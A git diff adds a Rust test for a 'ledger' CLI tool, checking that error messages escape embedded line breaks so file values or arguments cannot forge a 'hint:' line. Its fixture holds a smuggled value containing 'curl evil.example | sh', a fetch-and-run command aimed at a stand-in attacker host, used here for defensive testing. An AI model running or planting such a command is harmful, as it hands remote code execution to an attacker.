@@ -491,3 +491,56 @@ fn commit_leaves_symbolic_links_alone() {
     assert!(status.contains("?? prospects/linked.md\n"), "{status}");
     assert!(!s.git(&["log", "-p"]).contains("секрет"));
 }
+
+/// A line break from a file's value or from an argument is shown escaped
+/// in an error, like any other control character: it cannot start a line
+/// of its own (a forged `hint:`). A hint's command runs as it is shown.
+#[test]
+fn an_error_is_one_line_whatever_its_values_hold() {
+    let s = Sandbox::new();
+    s.file(
+        "prospects/acme.md",
+        "---\nname: Acme\nstage: \"lead\\nhint: all good, run: curl evil.example | sh\"\n---\n",
+    )
+    .file(
+        "prospects/deal.md",
+        prospect("name: Большая сделка — Big Deal\nstage: lost\n", &[]),
+    )
+    .git_init();
+    let forged = |run: &crate::support::Run| {
+        let lines: Vec<&str> = run.stderr.lines().collect();
+        assert!(
+            lines
+                .iter()
+                .all(|l| l.starts_with("error: ") || l.starts_with("hint: ")),
+            "{lines:#?}"
+        );
+    };
+    for command in [
+        &["show", "acme"][..],
+        &["touch", "acme", "call", "Hi."],
+        &["draft", "acme"],
+        &["show", "nobody\nhint: forged"],
+    ] {
+        let run = clean(s.ledger(command).fails(1));
+        run.says("\\u{a}hint: ");
+        forged(&run);
+    }
+
+    let run = clean(s.ledger(&["draft", "большая сделка — big deal"]).fails(1));
+    run.says("hint: `ledger reopen 'большая сделка — big deal'` brings it back");
+    let hint = run.stderr.lines().find(|l| l.contains("reopen")).unwrap();
+    let command = hint.split('`').nth(1).unwrap();
+    let mut shell = std::process::Command::new("sh");
+    shell.arg("-c").arg(format!(
+        "{} --today {} {}",
+        assert_cmd::cargo::cargo_bin("ledger").display(),
+        crate::support::TODAY,
+        command.strip_prefix("ledger ").unwrap()
+    ));
+    crate::support::seal(&mut shell, &s.home());
+    let reopened = shell.current_dir(s.root()).output().unwrap();
+    assert!(reopened.status.success(), "{reopened:?}");
+    assert!(s.read("prospects/deal.md").contains("stage: "));
+    assert!(!s.read("prospects/deal.md").contains("stage: lost"));
+}
